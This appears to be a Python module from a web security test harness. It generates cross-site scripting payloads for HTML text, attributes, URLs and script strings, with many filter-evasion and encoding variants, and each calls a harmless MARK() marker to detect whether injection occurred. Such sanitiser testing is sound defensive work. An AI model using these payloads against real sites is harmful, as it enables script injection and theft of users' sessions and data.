@@ -1,0 +1,176 @@
+"""Texts that become markup or code in a page, for every place in which a page may hold them.
+
+The word MARK stands for a marker (`html.new_marker()`); `html.injections` tells whether it became code. The first texts
+leave every place at once (text, quotes of both kinds, titles, text areas, scripts); behind them stand those in few
+kinds of signs, for filters. See the HTML standard, section 13.2, "Parsing HTML documents".
+"""
+
+from __future__ import annotations
+
+import html
+from collections.abc import Iterator, Sequence
+from urllib.parse import quote
+
+from probes.grammars import evasions
+from probes.grammars.placeholders import fields
+from probes.grammars.ranked import in_turn
+
+_IMAGE = "<img src=x onerror=MARK()>"
+_ANYWHERE = (
+    f"'\"></title></textarea></style></script>{_IMAGE}",
+    "\" onfocus=MARK() x=\"' onfocus=MARK() x='",
+    "<script>MARK()</script>",
+    "x onfocus=MARK() y",
+    "<<img src=x onerror=MARK()//",
+    "<svg/onload=MARK() x",
+    "<img src=x\nonerror=MARK()\n>",
+    "<IMG SRC=x ONERROR=MARK()>",
+    "<img title='>' src=x onerror=MARK()>",
+    "\u0338 onfocus=MARK() x",
+    "\uff1cimg src=x onerror=MARK()\uff1e\uff02 onfocus=MARK() x=\uff02\uff07 onfocus=MARK() x=\uff07",
+    "x\tonfocus=MARK()\ty",
+    "--></title></textarea></style></noscript><MARK>",
+    f"&lt;&amp;&quot;&gt;{_IMAGE}",
+    "<a href=javascript:MARK()>x</a>",
+    "<script MARK>",
+    "</li><MARK>",
+    "<details open ontoggle=MARK()>",
+    "<iframe srcdoc='<script>MARK()</script>'>",
+    "<a href='java&#10;script:MARK()'>x</a>",
+    "<form><button formaction=javascript:MARK()>x",
+    "'onfocus=MARK() x='",
+    '"onfocus=MARK() x="',
+    "x\fonfocus=MARK()\fy",
+    '\\" onfocus=MARK() x=\\"',
+    "<scr<script>ipt>MARK()</scr</script>ipt>",
+    "<style onload=MARK()></style>",
+    "<math><a xlink:href=javascript:MARK()>",
+)
+
+
+def texts() -> Iterator[str]:
+    """Texts that shall be shown as they are, in the text of an element or in an attribute."""
+    yield from _ANYWHERE[:3]
+    yield from in_turn(
+        _ANYWHERE[3:],
+        (other for text in _ANYWHERE[:5] for other in evasions.evading(text)),
+        (form for text in (_IMAGE, *_ANYWHERE[1:2], f"'\">{_IMAGE}") for form in _spelled(text)),
+    )
+
+
+def _spelled(text: str) -> Iterator[str]:
+    """What a later step turns into the text."""
+    yield from (html.escape(text), quote(text), html.escape(html.escape(text)), quote(quote(text)))
+    yield text.replace("<", "\\u003c").replace(">", "\\u003e").replace('"', "\\u0022")
+    yield text.replace("<", "\\x3c").replace(">", "\\x3e").replace('"', "\\x22")
+    yield text.replace("<", "<\0").replace("onerror", "on\0error")
+    yield text.replace("<", "&#60").replace(">", "&#62")
+    yield text.replace("<", "+ADw-").replace(">", "+AD4-")
+    yield "&lt;" + text.replace("<", "<!>")
+
+
+_CODE_URLS = (
+    "javascript:MARK()",
+    "JaVaScRiPt:MARK()",
+    " \x01javascript:MARK()",
+    "java\tscript:MARK()",
+    "\x1fjava\nscript:MARK()//",
+    "javascript:MARK()//https://ada.example/",
+    "javascript://https://ada.example/%0aMARK()",
+    "\njavascript:MARK()//\nhttps://ada.example/",
+    "https://ada.example/\njavascript:MARK()",
+    "data:text/html,<script>MARK()</script>//https://ada.example/",
+    "javascript:MARK()?https://ada.example/",
+    "javascript%3AMARK()",
+    "javascript&colon;MARK()",
+    "vbscript:MARK()",
+    "javascript&#58;MARK()",
+    "http:javascript:MARK()",
+    "javascript:http://MARK()",
+    "javascript:'http://';MARK()",
+    "java\0script:MARK()",
+    "feed:javascript:MARK()",
+    "%6aavascript:MARK()",
+    "\u2028javascript:MARK()",
+    "\ufeffjavascript:MARK()",
+    "data:image/svg+xml,<svg onload=MARK() xmlns='http://www.w3.org/2000/svg'/>",
+    "x-javascript:MARK()",
+)
+
+
+def urls(address: str) -> Iterator[str]:
+    """Texts for the place of an address in an attribute; `address` is one that is allowed."""
+    yield from _CODE_URLS[:3]
+    yield from in_turn(
+        _CODE_URLS[3:],
+        (f"{address}{text}" for text in (*_ANYWHERE[:4], " onfocus=MARK() x", *_ANYWHERE[21:24], "'><MARK>", "<MARK")),
+        (other for text in _CODE_URLS[:2] for other in evasions.evading(text)),
+        (f"{address}{form}" for form in _spelled('"><img src=x onerror=MARK()>')),
+    )
+
+
+_SCRIPTS = (
+    f"</script>{_IMAGE}",
+    "\";MARK();//';MARK();//`;MARK();//",
+    "\\\";MARK();//\\';MARK();//\\`;MARK();//",
+    f"</SCRIPT >{_IMAGE}",
+    "\nMARK()\n",
+    '"+MARK()+"',
+    "'+MARK()+'",
+    '\\"+MARK()}//',
+    f"</script/x>{_IMAGE}",
+    f"</script\n>{_IMAGE}",
+    f"</script\t{_IMAGE}</script>",
+    f"</ScRiPt>{_IMAGE}",
+    "${MARK()}",
+    "\u0130" * 60 + f"</script>{_IMAGE}",
+    "\u00df\ufb03\u0149" * 40 + f"</script>{_IMAGE}",
+    f"<!--<script>x</script></script>{_IMAGE}",
+    '\\\\";MARK();//',
+    '\\\\\\";MARK();//',
+    "MARK\\",
+    "\u2028MARK()//",
+    "\rMARK()//",
+    "*/MARK()/*",
+    "1;MARK()",
+    "&quot;;MARK();//",
+    f"&lt;/script&gt;{html.escape(_IMAGE)}",
+    "\\u003c/script\\u003e\\u003cimg src=x onerror=MARK()\\u003e",
+    f"</scr</script>ipt>{_IMAGE}",
+    f"</</script>script>{_IMAGE}",
+    f"<<//script>{_IMAGE}",
+    "\uff1c/script\uff1e\uff1cimg src=x onerror=MARK()\uff1e",
+    "%3C/script%3E%3Cimg src=x onerror=MARK()%3E",
+    f"</\u017fcript>{_IMAGE}",
+    f"-->{_IMAGE}",
+    f"]]></script>{_IMAGE}",
+)
+
+
+def scripts() -> Iterator[str]:
+    """Texts that stand in a string of a script, or in JSON within one."""
+    yield from _SCRIPTS[:4]
+    yield from in_turn(_SCRIPTS[4:], (other for text in _SCRIPTS[:3] for other in evasions.evading(text)))
+
+
+def pairs(names: Sequence[str]) -> Iterator[tuple[str, str]]:
+    """Two texts of one page, the first of which opens what the second steps out of.
+
+    `names` are those that a template of the solution's own may have for its fields.
+    """
+    yield from [
+        ("<img src=x title='", "' onerror=MARK()>"),
+        ('<img src=x title="', '" onerror=MARK() x="'),
+        ("\\", '+MARK()+"'),
+        ("\\", ";MARK();//"),
+        ("<!--<script>", f"</script>{_IMAGE}"),
+        ("<!--", f"--!>{_IMAGE}"),
+        ("<img src=x onerror=`", "`;MARK()>"),
+        ("</scr", f"ipt>{_IMAGE}"),
+        ("<", "img src=x onerror=MARK()>"),
+        ('x="', ' onfocus=MARK() "'),
+    ]
+    for payload in ('" onfocus=MARK() x="', f"' onfocus=MARK() x='{_IMAGE}", "+MARK()+"):
+        for field in fields(*names):
+            yield (field, payload)
+            yield (payload, field)
